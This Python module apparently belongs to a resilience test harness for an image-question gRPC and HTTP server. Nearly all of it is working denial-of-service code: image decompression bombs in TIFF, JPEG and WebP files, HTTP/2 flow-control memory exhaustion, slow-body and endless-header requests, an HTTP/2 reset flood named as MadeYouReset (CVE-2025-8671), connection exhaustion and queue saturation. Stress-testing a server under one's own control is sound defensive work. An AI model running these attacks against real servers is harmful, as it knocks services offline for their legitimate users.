"""The attacks. Each function sends what one hostile client sends until the attack is over.

`ATTACKS` lists them with what they need of the server.
"""

import itertools
import json
import socket
import threading
from dataclasses import dataclass
from typing import Callable

import h2.events
import hpack
import image_bombs
from target import Target

from raw_frames import END_HEADERS, HEADERS, PREFACE, PRIORITY, SETTINGS, frame  # noqa: E402  `target` adds its folder

MIB = 1 << 20
QUESTION = "how many circles are in the image?"
NUMBERS = itertools.count()


def field_of(number, data):
    """Returns a protobuf field of bytes."""
    length, encoded = len(data), b""
    while length > 0x7F:
        encoded += bytes([length & 0x7F | 0x80])
        length >>= 7
    return bytes([number << 3 | 2]) + encoded + bytes([length]) + data


def ask_request(images, questions=(QUESTION,), generation=b"", by_url=False):
    """Returns an AskRequest in a gRPC frame."""
    asked = b"".join(field_of(2, field_of(1, text.encode())) for text in questions)
    inputs = (field_of(1, field_of(1, field_of(2 if by_url else 1, image)) + asked) for image in images)
    body = b"".join(inputs) + (field_of(6, generation) if generation else b"")
    return b"\0" + len(body).to_bytes(4, "big") + body


def ask(target, images, leave_after_s=None, **options):
    """Asks about images on a separate connection. Waits for the end of the call, or leaves."""
    connection = target.http2(target.grpc)
    try:
        stream = connection.ask(ask_request(images, **options))
        if leave_after_s is None:
            connection.read_until((h2.events.StreamEnded, h2.events.StreamReset), stream)
        else:
            target.wait(leave_after_s)
    finally:
        connection.close()


def mark():
    """Returns bytes that differ for each file of this process."""
    return next(NUMBERS).to_bytes(8, "little")


# Decoding


def tiff_strips(target):
    """Narrow TIFFs. Each of their 1,000 strips is a JPEG that declares 16384 x 16384 pixels."""
    target.repeat(
        lambda: ask(target, [image_bombs.tiff_with_large_strips(1000, mark=mark())] * 2, leave_after_s=1),
        threads=1,
    )


def tiff_one_strip(target):
    """TIFFs of 16 x 16 whose strip is a JPEG that declares 16384 x 16384 in four components."""
    bomb = lambda: image_bombs.tiff_with_large_strips(1, components=4, mark=mark())  # noqa: E731
    target.repeat(lambda: ask(target, [bomb()]), threads=4)


def hidden_scans(target):
    """Progressive JPEGs of 64 KB with 1,000 scans that a marker count does not see."""
    target.repeat(lambda: ask(target, [image_bombs.hidden_scans_jpeg(1000, 1000, mark())]), threads=4)


def many_codes(target):
    """Lossless WebPs of 4 x 4 pixels with 8,192 groups of prefix codes."""
    files = [image_bombs.webp_with_many_codes(8192, number) for number in range(2)]
    target.repeat(lambda: ask(target, files), threads=2)


def flat_images(target):
    """Many calls with two lossless WebPs of 25 megapixels in 40 bytes each."""
    colors = itertools.cycle(range(2, 256))
    target.repeat(lambda: ask(target, [image_bombs.flat_webp(5000, next(colors)) for _ in range(2)]), threads=60)


def progressive_images(target):
    """20 calls at a time with 64 progressive JPEGs of 64 scans each."""

    def bombs():
        return [image_bombs.progressive_jpeg(2048, 3, 64, mark()) for _ in range(64)]

    target.repeat(lambda: ask(target, bombs()), threads=20)


# Memory


def unread_files(target):
    """Connections that request a static file 100 times each and give no window."""

    def read_nothing():
        connection = target.http2(target.http)
        connection.close_windows()
        for _ in range(100):
            connection.request("GET", "/docs/swagger-ui-bundle.js", authority=target.http)
        hold(target, connection)

    target.repeat(read_nothing, threads=20)


def unread_vectors(target):
    """Connections that embed 1,000 texts in each of 100 requests and give no window."""
    headers = [("content-type", "application/json")]
    texts = json.dumps({"model": "demo-match", "inputs": [{"texts": [f"text {n}" for n in range(1000)]}]}).encode()

    def read_nothing():
        connection = target.http2(target.http)
        connection.close_windows()
        for _ in range(100):
            if target.is_over:
                return
            connection.request("POST", "/v1/embed", texts, headers, authority=target.http)
        hold(target, connection)

    target.repeat(read_nothing, threads=2)


def hold(target, connection):
    """Answers the server's pings until the attack or the connection is over."""
    connection.socket.settimeout(1)
    while not target.is_over and not connection.closed:
        try:
            connection.events()
        except TimeoutError:
            pass
    connection.close()


def announced_messages(target):
    """Eight calls that announce a message of 64 MiB and send one byte every few seconds."""

    def announce():
        connection = target.http2(target.grpc)
        frame = b"\0" + (64 * MIB).to_bytes(4, "big")
        stream = connection.ask(frame, end=False, extra=[("grpc-timeout", "99999999H")])
        while not target.is_over and not connection.closed:
            connection.h2.send_data(stream, b"\n")
            connection.flush()
            target.wait(3)
        connection.close()

    target.repeat(announce, threads=8)


def bodies_without_key(target):
    """Nine JSON bodies of nearly 64 MiB without a key, whose last bytes come slowly."""
    body = b'{"inputs": "' + b"x" * (64 * MIB - 200)

    def send():
        connection = target.socket(target.http)
        head = f"POST /v1/ask HTTP/1.1\r\nhost: {target.http}\r\ncontent-type: application/json\r\n"
        connection.sendall(f"{head}content-length: {64 * MIB - 100}\r\n\r\n".encode())
        connection.sendall(body)
        while not target.is_over:
            connection.sendall(b"x")
            target.wait(3)

    target.repeat(send, threads=9)


def long_json_key(target):
    """JSON objects with one unknown key of 60 MB, whose refusals are not read."""
    body = b'{"' + b"k" * 60_000_000 + b'": 1}'

    def send():
        connection = target.socket(target.http)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        head = f"POST /v1/ask HTTP/1.1\r\nhost: {target.http}\r\ncontent-type: application/json\r\n"
        connection.sendall(f"{head}content-length: {len(body)}\r\n\r\n".encode() + body)
        target.wait()

    target.repeat(send, threads=6)


# Work without a key


def endless_part_header(target):
    """Multipart forms whose first part has headers without an end, in pieces of 1 KB."""

    def send():
        connection = target.socket(target.http)
        head = (
            f"POST /v1/ask HTTP/1.1\r\nhost: {target.http}\r\n"
            "content-type: multipart/form-data; boundary=b\r\ncontent-length: 60000000\r\n\r\n"
            '--b\r\ncontent-disposition: form-data; name="question"\r\nx-long: '
        )
        connection.sendall(head.encode())
        for _ in range(58_000):
            if target.is_over:
                return
            connection.sendall(b"x" * 1024)

    target.repeat(send, threads=4)


def protocol_error_resets(target):
    """Frames that make the server reset its own streams (MadeYouReset, CVE-2025-8671)."""

    # Sensitive headers enter no table, so each stream sends the same bytes.
    headers = hpack.Encoder().encode(
        hpack.NeverIndexedHeaderTuple(name, value)
        for name, value in [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", "/blip.v1.BlipService/Ask"),
            (":authority", "test"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
    )

    def flood():
        connection = target.socket(target.grpc)
        connection.sendall(PREFACE + frame(SETTINGS, 0))
        for first in itertools.count(1, 200):
            if target.is_over:
                return
            frames = b""
            for stream in range(first, first + 200, 2):
                frames += frame(HEADERS, stream, headers, END_HEADERS)
                frames += frame(PRIORITY, stream, stream.to_bytes(4, "big") + b"\0")
            connection.settimeout(5)
            connection.sendall(frames)
            connection.settimeout(0.001)
            try:
                if not connection.recv(1 << 20):
                    return
            except TimeoutError:
                pass

    target.repeat(flood, threads=4)


# Places


def idle_connections(target):
    """4,200 connections that send the HTTP/2 preface and nothing more."""
    open_connections = []
    for _ in range(4200):
        if target.is_over:
            return
        try:
            connection = target.socket(target.grpc)
            connection.sendall(PREFACE + frame(SETTINGS, 0))
            open_connections.append(connection)
        except OSError:
            target.wait(0.01)
    target.wait()


def half_requests_for_metrics(target):
    """1,141 connections to the metrics listener that never finish a request."""
    open_connections = []
    for _ in range(1141):
        try:
            connection = target.socket(target.metrics)
            connection.sendall(b"GET /metrics HTTP/1.1\r\nhost: ")
            open_connections.append(connection)
        except OSError:
            target.wait(0.01)
        if target.is_over:
            return
    target.wait()


def full_queue(target):
    """16 calls of 1,024 questions each, answered with ten beams."""
    # num_beams 10 and max_new_tokens 100
    generation = b"\x08\x0a\x10\x64"

    def send():
        questions = [f"{QUESTION} {next(NUMBERS)}" for _ in range(1024)]
        ask(target, [image_bombs.flat_png(8, mark())], questions=questions, generation=generation)

    target.repeat(send, threads=16)


def hanging_fetches(target):
    """Eight calls that name 64 URLs of a host that accepts connections and never answers."""
    host = socket.create_server((target.fetch_host, target.fetch_port), backlog=1024)
    host_port = f"{target.fetch_host}:{target.fetch_port}"

    def send():
        urls = [f"http://{host_port}/{next(NUMBERS)}".encode() for _ in range(64)]
        ask(target, urls, by_url=True)

    target.repeat(send, threads=8)
    host.close()


@dataclass(frozen=True)
class Attack:
    """An attack and the server that it is for."""

    run: Callable[[Target], None]
    needs_keys: bool = False
    """Whether the server has keys. The attacker has none."""
    honest: str = "image"
    """What the honest client asks about: `image` or `url`."""
    max_files: int = 0

    @property
    def name(self):
        return self.run.__name__


ATTACKS = [
    Attack(tiff_strips),
    Attack(tiff_one_strip),
    Attack(hidden_scans),
    Attack(many_codes),
    Attack(flat_images),
    Attack(progressive_images),
    Attack(unread_files, needs_keys=True),
    Attack(unread_vectors),
    Attack(announced_messages),
    Attack(bodies_without_key, needs_keys=True),
    Attack(long_json_key, needs_keys=True),
    Attack(endless_part_header, needs_keys=True),
    Attack(protocol_error_resets, needs_keys=True),
    Attack(idle_connections, needs_keys=True),
    Attack(half_requests_for_metrics, needs_keys=True, max_files=1024),
    Attack(full_queue),
    Attack(hanging_fetches, honest="url"),
]
